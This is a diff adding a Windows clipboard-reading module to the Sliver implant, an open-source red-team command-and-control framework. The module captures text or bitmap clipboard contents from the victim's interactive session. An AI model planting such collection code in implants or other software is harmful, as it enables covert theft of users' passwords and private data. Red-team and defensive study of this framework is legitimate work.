@@ -0,0 +1,129 @@
+package clipboard
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"encoding/binary"
+	"runtime"
+	"time"
+	"unsafe"
+
+	"github.com/bishopfox/sliver/implant/sliver/syscalls"
+	"golang.org/x/sys/windows"
+)
+
+const (
+	cfDIB         = 8
+	cfUnicodeText = 13
+
+	biBitfields = 3
+	bmpHeader   = 14
+
+	openAttempts = 5
+)
+
+// read - The clipboard belongs to the window station, so this only works when we're
+// running in the user's interactive session. Text is preferred, otherwise bitmaps
+// are returned as a .bmp file.
+func read() ([]byte, string, error) {
+	runtime.LockOSThread()
+	defer runtime.UnlockOSThread()
+
+	err := openClipboard()
+	if err != nil {
+		return nil, "", err
+	}
+	defer syscalls.CloseClipboard()
+
+	if syscalls.IsClipboardFormatAvailable(cfUnicodeText) {
+		data, err := clipboardData(cfUnicodeText)
+		if err != nil {
+			return nil, "", err
+		}
+		text := make([]uint16, len(data)/2)
+		for index := range text {
+			text[index] = binary.LittleEndian.Uint16(data[index*2:])
+		}
+		return []byte(windows.UTF16ToString(text)), FormatText, nil
+	}
+	if syscalls.IsClipboardFormatAvailable(cfDIB) {
+		data, err := clipboardData(cfDIB)
+		if err != nil {
+			return nil, "", err
+		}
+		return dibToBMP(data), "image/bmp", nil
+	}
+	return []byte{}, "", nil
+}
+
+// openClipboard - Only one window can have the clipboard open at a time
+func openClipboard() error {
+	var err error
+	for attempt := 0; attempt < openAttempts; attempt++ {
+		err = syscalls.OpenClipboard(0)
+		if err == nil {
+			return nil
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	return err
+}
+
+func clipboardData(format uint32) ([]byte, error) {
+	hMem, err := syscalls.GetClipboardData(format)
+	if err != nil {
+		return nil, err
+	}
+	size, err := syscalls.GlobalSize(hMem)
+	if err != nil {
+		return nil, err
+	}
+	ptr, err := syscalls.GlobalLock(hMem)
+	if err != nil {
+		return nil, err
+	}
+	defer syscalls.GlobalUnlock(hMem)
+	data := make([]byte, size)
+	syscalls.RtlCopyMemory(uintptr(unsafe.Pointer(&data[0])), ptr, uint32(size))
+	return data, nil
+}
+
+// dibToBMP - CF_DIB is a BITMAPINFO followed by the pixels, prefixing a file header
+// pointing at the pixels makes it a .bmp file
+func dibToBMP(dib []byte) []byte {
+	if len(dib) < 40 {
+		return dib
+	}
+	headerSize := binary.LittleEndian.Uint32(dib[0:])
+	bitCount := binary.LittleEndian.Uint16(dib[14:])
+	compression := binary.LittleEndian.Uint32(dib[16:])
+	colorsUsed := binary.LittleEndian.Uint32(dib[32:])
+	if colorsUsed == 0 && bitCount <= 8 {
+		colorsUsed = 1 << bitCount
+	}
+	offset := bmpHeader + headerSize + colorsUsed*4
+	if compression == biBitfields && headerSize == 40 {
+		offset += 12 // Color masks follow a BITMAPINFOHEADER
+	}
+	bmp := make([]byte, bmpHeader, bmpHeader+len(dib))
+	bmp[0], bmp[1] = 'B', 'M'
+	binary.LittleEndian.PutUint32(bmp[2:], uint32(bmpHeader+len(dib)))
+	binary.LittleEndian.PutUint32(bmp[10:], offset)
+	return append(bmp, dib...)
+}